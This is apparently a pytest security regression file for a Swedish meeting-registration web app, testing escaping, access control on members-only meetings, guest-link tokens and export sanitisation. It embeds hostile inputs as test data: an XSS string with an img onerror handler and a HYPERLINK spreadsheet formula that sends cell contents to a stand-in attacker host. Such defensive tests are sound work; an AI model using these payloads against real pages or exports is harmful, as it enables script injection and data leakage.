"""Finding 14 (issue 13), continued: the meeting pages and addresses as an outsider sees them.

- people's text sat outside ``hx-disable`` containers on the meeting pages;
- a membership outlived the person's affiliation (ended, or organisation no longer active);
- a guest registration with someone's address blocked that person from registering;
- every address of a members-only meeting, exports without formulas, a coordinator moving a
  meeting out of their network, long file names and reused guest links.

The first part (a–g: guest registration, the waiting list, CR/LF, JSON bodies, tokens, slide
size, contact addresses) is ``test_finding_14_meetings.py``; its helpers are used here.
"""

import datetime as dt
import io

import pytest
from django.utils import timezone

from reglab.accounts.models import Affiliation, AffiliationStatus
from reglab.meetings.models import NetworkMembership, RegistrationStatus, Visibility
from reglab.meetings.services.meeting import host_question_add, programme_item_add, slide_attach
from reglab.meetings.services.registration import (
    registration_register,
    registration_register_guest,
)
from tests.factories import UserFactory
from tests.meetings import conftest as meeting_fixtures
from tests.meetings.conftest import add_programme, make_meeting
from tests.provrum import work_samples as samples
from tests.security import hx_guard
from tests.security.test_finding_14_meetings import bearer

pytestmark = pytest.mark.django_db

# The meeting tests' fixtures: a network, its coordinator, slides in the test's own folder.
network = meeting_fixtures.network
coordinator = meeting_fixtures.coordinator
outsider = meeting_fixtures.outsider
_slide_storage = meeting_fixtures._slide_storage


# h. People's text inside hx-disable --------------------------------------------------

# Every text below carries the marker and markup: escaped, it is the page's text; not
# escaped, it would be an element with an onerror handler (XSS in every field).
MARK = "Xq7Markering\"'><img src=x onerror=alert(1)>"


def unguarded(document: str) -> list:
    return hx_guard.unguarded(document, MARK, attributes=True)


@pytest.fixture
def marked(network, coordinator, member_rep, office_user):
    network.name = f"Nätverk {MARK}"
    network.purpose = f"Syfte {MARK}"
    network.save()
    type(coordinator).objects.filter(pk=coordinator.pk).update(name=f"Sara {MARK}")
    NetworkMembership.objects.filter(person=coordinator).update(is_contact=True)
    meeting = make_meeting(
        network,
        title=f"Träff {MARK}",
        address=f"Plats {MARK}",
        description=f"Beskrivning {MARK}",
        notes=f"Anteckningar {MARK}",
        decisions=f"Beslut {MARK}",
        digital_link="https://meet.example.org/rum",
    )
    earlier = make_meeting(network, days=-30, title=f"Förra {MARK}")
    programme_item_add(
        meeting=earlier, by=office_user, start_time=dt.time(11), title=f"Tema {MARK}", kind="theme"
    )
    item = programme_item_add(
        meeting=meeting,
        by=office_user,
        start_time=dt.time(11),
        title=f"Punkt {MARK}",
        kind="talk",
        description=f"Om punkten {MARK}",
        speakers=[(f"Talare {MARK}", None, f"Org {MARK}")],
    )
    slide_attach(item=item, by=office_user, name=f"bilder {MARK}.pptx", data=samples.pptx_bytes())
    question = host_question_add(meeting=meeting, by=office_user, text=f"Fråga {MARK}")
    type(member_rep).objects.filter(pk=member_rep.pk).update(name=f"Anna {MARK}")
    member_rep.refresh_from_db()
    registration = registration_register(
        meeting=meeting,
        person=member_rep,
        dietary_needs=f"Kost {MARK}",
        answers={question.pk: f"Svar {MARK}"},
    )
    type(registration).objects.filter(pk=registration.pk).update(organisation_name=f"Org {MARK}")
    return meeting, registration


@pytest.mark.parametrize(
    "where",
    [
        "detail",
        "list",
        "network",
        "networks",
        "host",
        "edit",
        "participants",
        "name_list",
        "registration",
    ],
)
def test_h_peoples_text_sits_in_hx_disable_containers(client, marked, office_user, where):
    meeting, registration = marked
    urls = {
        "detail": meeting.get_absolute_url(),
        "list": "/moten/",
        "network": meeting.network.get_absolute_url(),
        "networks": "/natverk/",
        "host": f"/moten/{meeting.pk}/vard/",
        "edit": f"/moten/{meeting.pk}/vard/andra/",
        "participants": f"/moten/{meeting.pk}/vard/deltagare/",
        "name_list": f"/moten/{meeting.pk}/vard/namnlista/",
        "registration": f"/moten/anmalan/{registration.token}/",
    }
    client.force_login(office_user)
    response = client.get(urls[where])
    assert response.status_code == 200
    assert unguarded(response.content.decode()) == []


# 2. A membership is rechecked against the affiliation ---------------------------------


@pytest.mark.parametrize("how", ["affiliation_ended", "organisation_inactive", "deactivated"])
def test_members_only_access_follows_the_affiliation(client, network, how):
    from tests.factories import AffiliationFactory, RegionFactory

    person = UserFactory(email="medlem@example.se", name="Mia Medlem")
    organisation = RegionFactory(name="Region Halland", slug="region-halland")
    affiliation = AffiliationFactory(person=person, organisation=organisation)
    NetworkMembership.objects.create(network=network, person=person, is_coordinator=True)
    meeting = make_meeting(network, visibility=Visibility.MEMBERS)
    client.force_login(person)
    assert client.get(meeting.get_absolute_url()).status_code == 200
    assert client.get(f"/moten/{meeting.pk}/vard/").status_code == 200

    if how == "affiliation_ended":
        Affiliation.objects.filter(pk=affiliation.pk).update(status=AffiliationStatus.ENDED)
    elif how == "organisation_inactive":
        organisation.active_until = timezone.localdate() - dt.timedelta(days=1)
        organisation.save()
    else:
        type(person).objects.filter(pk=person.pk).update(is_active=False)
        person.refresh_from_db()
        client.force_login(person)
    assert client.get(meeting.get_absolute_url()).status_code in (302, 404)
    assert client.get(f"/moten/{meeting.pk}/vard/").status_code in (302, 403, 404)
    assert client.get(f"/moten/{meeting.pk}/kalender.ics").status_code in (302, 404)
    listed = client.get(f"/api/v1/networks/{network.slug}").json()
    assert meeting.pk not in [m["id"] for m in listed.get("meetings", [])]


def test_members_only_for_an_organisation_no_longer_active(client, network, region, member_rep):
    meeting = make_meeting(network, visibility=Visibility.MEMBERS)
    client.force_login(member_rep)
    assert client.get(meeting.get_absolute_url()).status_code == 200
    region.active_until = timezone.localdate() - dt.timedelta(days=1)
    region.save()
    assert client.get(meeting.get_absolute_url()).status_code == 404
    standalone = make_meeting(visibility=Visibility.MEMBERS)
    assert client.get(standalone.get_absolute_url()).status_code == 404


# A guest registration with someone's address does not block that person --------------


def test_an_unconfirmed_guest_with_my_address_does_not_block_me(member_rep):
    meeting = make_meeting(capacity=1)
    squatter = registration_register_guest(
        meeting=meeting, name="Angripare", email=member_rep.email
    )
    assert squatter.status == RegistrationStatus.REGISTERED
    mine = registration_register(meeting=meeting, person=member_rep, dietary_needs="Vegan")
    # Signed in, the address is proved: the person takes the unconfirmed place over.
    assert mine.pk == squatter.pk
    mine.refresh_from_db()
    assert (mine.person, mine.name, mine.status) == (
        member_rep,
        member_rep.name,
        RegistrationStatus.REGISTERED,
    )
    assert mine.confirmed_at is not None and mine.dietary_needs == "Vegan"
    assert meeting.registrations.count() == 1


def test_a_confirmed_guest_place_under_my_address_is_mine_already(member_rep):
    meeting = make_meeting(capacity=3)
    guest = registration_register_guest(meeting=meeting, name="Anna", email=member_rep.email)
    type(guest).objects.filter(pk=guest.pk).update(confirmed_at=timezone.now())
    from reglab.meetings.services.registration import RegistrationRefused

    with pytest.raises(RegistrationRefused):
        registration_register(meeting=meeting, person=member_rep)


# Every address of a members-only meeting, as everyone who may not see it -------------


@pytest.fixture
def closed_meeting(network, office_user, member_rep):
    """A members-only meeting with an item, slides, a question and a registration."""
    meeting = make_meeting(network, visibility=Visibility.MEMBERS, capacity=5)
    item = programme_item_add(
        meeting=meeting, by=office_user, start_time=dt.time(11), title="Punkt", kind="theme"
    )
    attachment = slide_attach(
        item=item, by=office_user, name="bilder.pptx", data=samples.pptx_bytes()
    )
    question = host_question_add(meeting=meeting, by=office_user, text="Fråga")
    registration = registration_register(meeting=meeting, person=member_rep)
    return meeting, item, attachment, question, registration


def outsiders(network, region, outsider, plain_user, unconfirmed_user):
    """Everyone who may not see the network's members-only meetings; the former
    representative and the deactivated account are still in the network (and coordinate it)."""
    from tests.factories import AffiliationFactory

    ended = UserFactory(email="f-d-medlem@example.se", name="Före Detta")
    AffiliationFactory(person=ended, organisation=region, status=AffiliationStatus.ENDED)
    deactivated = UserFactory(email="avstangd@example.se", name="Avstängd", is_active=False)
    AffiliationFactory(person=deactivated, organisation=region)
    for person in (ended, deactivated):
        NetworkMembership.objects.create(network=network, person=person, is_coordinator=True)
    return {
        "anonymous": None,
        "plain": plain_user,
        "unconfirmed": unconfirmed_user,
        "other_network": outsider,
        "affiliation_ended": ended,
        "deactivated": deactivated,
    }


def test_no_address_of_a_members_only_meeting_answers_those_outside(
    client, closed_meeting, network, region, outsider, plain_user, unconfirmed_user
):
    meeting, item, attachment, question, registration = closed_meeting
    m = f"/moten/{meeting.pk}"
    reads = [
        f"{m}/",
        f"{m}/kalender.ics",
        f"{m}/bilder/{attachment.pk}/",
        f"{m}/vard/",
        f"{m}/vard/andra/",
        f"{m}/vard/deltagare/",
        f"{m}/vard/deltagare.csv",
        f"{m}/vard/deltagare.xlsx",
        f"{m}/vard/namnlista/",
    ]
    writes = [
        (f"{m}/anmal/", {"dietary_needs": "", "guest-name": "X", "guest-email": "x@example.org"}),
        (f"{m}/avanmal/", {}),
        (f"{m}/vard/andra/", {"title": "Kapad"}),
        (f"{m}/vard/punkter/", {"title": "Ny", "start_time": "11:00", "kind": "theme"}),
        (f"{m}/vard/punkter/{item.pk}/ta-bort/", {}),
        (f"{m}/vard/fragor/", {"text": "Ny fråga"}),
        (f"{m}/vard/fragor/{question.pk}/ta-bort/", {}),
        (f"{m}/vard/dokumentation/", {"notes": "Kapad", "decisions": ""}),
        (f"{m}/vard/deltagare/{registration.pk}/avanmal/", {}),
    ]
    api = f"/api/v1/meetings/{meeting.pk}"
    for role, person in outsiders(network, region, outsider, plain_user, unconfirmed_user).items():
        client.logout()
        headers = {}
        if person is not None:
            client.force_login(person)
            if person.is_active:
                headers = bearer(person)
        for url in reads:
            response = client.get(url)
            assert response.status_code in (302, 404), (role, url, response.status_code)
            if response.status_code == 302:
                assert "next=" in response.url, (role, url, response.url)
        for url, data in writes:
            response = client.post(url, data)
            assert response.status_code in (302, 404), (role, url, response.status_code)
            if response.status_code == 302:
                # Only ever to the sign-in page (for those not signed in).
                assert "next=" in response.url, (role, url, response.url)
        for method, url in (
            ("get", api),
            ("post", f"{api}/registrations"),
            ("get", f"{api}/registrations"),
            ("delete", f"{api}/registrations/me"),
        ):
            response = getattr(client, method)(
                url, content_type="application/json", headers=headers
            )
            assert response.status_code in (401, 404), (role, method, url, response.status_code)
        listed = client.get("/api/v1/meetings", headers=headers).json()
        assert meeting.pk not in [row["id"] for row in listed], role
    meeting.refresh_from_db()
    registration.refresh_from_db()
    assert (meeting.title, meeting.notes) != ("Kapad", "Kapad")
    assert meeting.notes == ""
    assert meeting.items.count() == 1 and meeting.questions.count() == 1
    assert meeting.registrations.count() == 1
    assert registration.status == RegistrationStatus.REGISTERED


def test_a_host_cannot_reach_another_meetings_rows_through_their_own(
    client, coordinator, network, closed_meeting, office_user
):
    other, item, attachment, question, registration = closed_meeting
    own = make_meeting(network)
    client.force_login(coordinator)
    m = f"/moten/{own.pk}"
    assert client.get(f"{m}/bilder/{attachment.pk}/").status_code == 404
    for url in (
        f"{m}/vard/punkter/{item.pk}/ta-bort/",
        f"{m}/vard/punkter/{item.pk}/bilder/",
        f"{m}/vard/fragor/{question.pk}/ta-bort/",
        f"{m}/vard/deltagare/{registration.pk}/avanmal/",
    ):
        assert client.post(url, {}).status_code == 404, url
    registration.refresh_from_db()
    assert registration.status == RegistrationStatus.REGISTERED
    assert other.items.count() == 1 and other.questions.count() == 1


# CSV and XLSX: no cell people typed is ever a formula ----------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_exported_cell_is_a_formula(client, coordinator, network, start):
    import csv

    from openpyxl import load_workbook

    formula = f'{start}HYPERLINK("http://angripare.example/?"&A1;"klicka")'
    meeting = make_meeting(network, capacity=5)
    question = host_question_add(meeting=meeting, by=coordinator, text=f"{start}SUM(1;2)")
    guest = registration_register_guest(
        meeting=meeting,
        name=formula,
        email=f"{'=' if start == '=' else 'x'}1+2@example.org",
        organisation_name=formula,
        dietary_needs=formula,
        answers={question.pk: formula},
    )
    assert guest.pk
    client.force_login(coordinator)
    response = client.get(f"/moten/{meeting.pk}/vard/deltagare.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    for cell in [*rows[0], *rows[1]]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    response = client.get(f"/moten/{meeting.pk}/vard/deltagare.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
            assert not str(cell.value or "").startswith(("=", "+", "-", "@")), cell.value


# A coordinator cannot move a meeting out of their network ------------------------------


def test_a_coordinator_cannot_move_a_meeting_out_of_their_network(client, coordinator, network):
    meeting = make_meeting(network)
    client.force_login(coordinator)
    form = {
        "network": "",
        "kind": "seminar",
        "title": meeting.title,
        "date": meeting.date.isoformat(),
        "start_time": "10:00",
        "end_time": "16:00",
        "address": meeting.address,
        "visibility": "public",
        "capacity": "",
    }
    response = client.post(f"/moten/{meeting.pk}/vard/andra/", form)
    assert response.status_code == 400
    assert "Du är inte samordnare för det här nätverket." in response.content.decode()
    meeting.refresh_from_db()
    assert meeting.network == network


# A long file name ---------------------------------------------------------------------


def test_slides_with_a_long_name_are_kept_with_a_shortened_name(client, coordinator, network):
    meeting = make_meeting(network)
    _theme, talk = add_programme(meeting)
    client.force_login(coordinator)
    upload = io.BytesIO(samples.pptx_bytes())
    upload.name = "å" * 240 + ".pptx"
    response = client.post(f"/moten/{meeting.pk}/vard/punkter/{talk.pk}/bilder/", {"file": upload})
    assert response.status_code == 302
    attachment = talk.attachments.get()
    assert len(attachment.name) <= 200 and attachment.name.endswith(".pptx")
    download = client.get(f"/moten/{meeting.pk}/bilder/{attachment.pk}/")
    assert download.status_code == 200


# Guest links: not guessable, and using one again changes nothing ----------------------


def test_a_guest_link_used_again_or_guessed_changes_nothing(client):
    import secrets

    meeting = make_meeting(capacity=1)
    guest = registration_register_guest(meeting=meeting, name="Gunilla", email="g@example.org")
    assert len(guest.token) >= 32
    url = f"/moten/anmalan/{guest.token}/"
    assert client.post(url, {"action": "confirm"}).status_code == 302
    guest.refresh_from_db()
    confirmed_at = guest.confirmed_at
    assert client.post(url, {"action": "confirm"}).status_code == 302
    guest.refresh_from_db()
    assert guest.confirmed_at == confirmed_at
    assert client.post(url, {"action": "cancel"}).status_code == 302
    # Cancelled: the link can neither confirm the place back nor take another one.
    response = client.post(url, {"action": "confirm"})
    assert response.status_code == 400
    assert "Anmälan är avanmäld." in response.content.decode()
    guest.refresh_from_db()
    assert guest.status == RegistrationStatus.CANCELLED
    assert meeting.registrations.exclude(status=RegistrationStatus.CANCELLED).count() == 0
    # A guessed link of the right shape is a plain 404.
    guessed = secrets.token_urlsafe(24)
    assert client.get(f"/moten/anmalan/{guessed}/").status_code == 404
    assert client.post(f"/moten/anmalan/{guessed}/", {"action": "cancel"}).status_code == 404
